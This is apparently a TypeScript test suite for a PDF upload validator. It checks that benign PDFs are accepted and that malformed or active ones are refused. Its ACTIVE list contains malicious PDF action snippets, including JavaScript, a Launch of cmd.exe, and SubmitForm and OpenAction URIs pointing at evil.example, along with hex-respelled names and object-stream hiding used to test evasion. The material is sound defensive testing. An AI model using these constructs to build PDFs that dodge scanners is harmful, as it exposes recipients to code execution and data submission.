import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { checkPdf } from '../src/image/check-pdf.js';
import { lookAtPdf } from '../src/image/look-at-paper.js';
import { Refusal } from '../src/image/refusal.js';
import { badPdfs, goodPdfs, handWritten, objectStream } from './pdf-corpus.js';

let folder: string;
let path: string;
let files = 0;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'mall-pdf-'));
});
afterAll(() => rm(folder, { recursive: true }));

async function outcomeOf(bytes: Buffer): Promise<string> {
  path = join(folder, String(++files));
  await writeFile(path, bytes);
  try {
    await checkPdf(path);
    return 'accepted';
  } catch (failure) {
    return failure instanceof Refusal ? failure.reason : String(failure);
  }
}

describe('a PDF is accepted and can be looked at', () => {
  it.each(Object.keys(goodPdfs))('%s', async (name) => {
    expect(await outcomeOf(await goodPdfs[name]!())).toBe('accepted');
    const stored = await readFile(path);
    expect(stored.toString('latin1', 0, 5)).toBe('%PDF-');
    expect((await lookAtPdf(path)).pages).toBeGreaterThan(0);
  });

  it('with the size and hash that it is stored with', async () => {
    path = join(folder, String(++files));
    await writeFile(path, Buffer.concat([Buffer.from('\n'), handWritten()]));
    const { sizeBytes } = await checkPdf(path);
    expect([sizeBytes, (await readFile(path)).length]).toEqual([handWritten().length, handWritten().length]);
  });
});

describe('a PDF is refused', () => {
  // The guard of the decoder process ends what takes too much memory; here, nothing would.
  const all = Object.entries(badPdfs).filter(([reason]) => reason !== 'tooComplex');
  it.each(
    all.flatMap(([reason, files]) =>
      Object.entries(files).map(([name, make]) => [reason, name, make] as const),
    ),
  )('as %s: %s', async (reason, _, make) => expect(await outcomeOf(await make())).toBe(reason));

  it('when its header stands behind the first kilobyte', async () =>
    expect(await outcomeOf(Buffer.concat([Buffer.alloc(1_025, ' '), handWritten()]))).toBe('pdfUnreadable'));
});

/** Objects that act, by what they do. */
const ACTIVE = [
  '<</S/JavaScript/JS(app.alert)>>',
  '<</S/Launch/F(cmd.exe)>>',
  '<</S/SubmitForm/F(https://evil.example)>>',
  '<</S/ImportData/F(x.fdf)>>',
  '<</S/GoToE/T<</R/C/N(x)>>>>',
  '<</Type/Filespec/F(x)/EF<</F 8 0 R>>>>',
  '<</Names[(x)8 0 R]/EmbeddedFiles 8 0 R>>',
  '<</Fields[]/XFA[(template)8 0 R]>>',
  '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>',
  '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>',
  '<</OpenAction<</S/URI/URI(https://evil.example)>>>>',
  '<</AA<</O<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>>>>>',
];

/** Places where an object is found by viewers. */
const PLACES: readonly ((object: string) => Buffer)[] = [
  (object) => handWritten({ objects: `4 0 obj${object}endobj` }),
  (object) => handWritten({ catalog: `/X ${object}` }),
  (object) => handWritten({ page: `/Annots[[${object}]]` }),
  (object) => handWritten({ objects: objectStream(object) }),
  (object) => handWritten({ objects: objectStream(object, { filters: 3 }) }),
  (object) => handWritten({ objects: objectStream(object, { type: '' }) }),
  (object) => handWritten({ objects: objectStream(object, { type: '/Type/Other' }) }),
  (object) => handWritten({ objects: `4 0 obj${object}endobj\n4 0 obj<<>>endobj` }),
  (object) =>
    Buffer.concat([handWritten(), Buffer.from(`4 0 obj${object}endobj\ntrailer<<>>\n%%EOF\n`, 'latin1')]),
  (object) => Buffer.concat([handWritten({ objects: `4 0 obj${object}endobj` }), handWritten().subarray(9)]),
  (object) => Buffer.concat([Buffer.from('\ufeff\n'), handWritten({ objects: objectStream(object) })]),
];

/** Spells each letter of the names in an object as it is, or as its code. */
const respelled = (object: string, isCode: readonly boolean[]): string => {
  let letter = 0;
  return object.replace(/\/[A-Za-z]+/g, (name) =>
    name.replace(/[A-Za-z]/g, (sign) =>
      isCode[letter++ % isCode.length] ? `#${sign.charCodeAt(0).toString(16)}` : sign,
    ),
  );
};

test('content that acts is found wherever it stands and however its names are spelled', () =>
  fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...ACTIVE),
      fc.constantFrom(...PLACES),
      fc.array(fc.boolean(), { minLength: 1, maxLength: 7 }),
      async (object, place, isCode) => {
        expect([object, await outcomeOf(place(respelled(object, isCode)))]).toEqual([object, 'pdfActive']);
      },
    ),
    { numRuns: 150 },
  ));

test('what does not act is accepted in the same places and spellings', () =>
  fc.assert(
    fc.asyncProperty(
      fc.constantFrom(
        '<</S/GoTo/D[3 0 R/Fit]>>',
        '<</A<</S/URI/URI(https://bank.example)>>>>',
        '<</Type/Font>>',
      ),
      fc.constantFrom(...PLACES),
      fc.array(fc.boolean(), { minLength: 1, maxLength: 7 }),
      async (object, place, isCode) =>
        expect(await outcomeOf(place(respelled(object, isCode)))).toBe('accepted'),
    ),
    { numRuns: 50 },
  ));
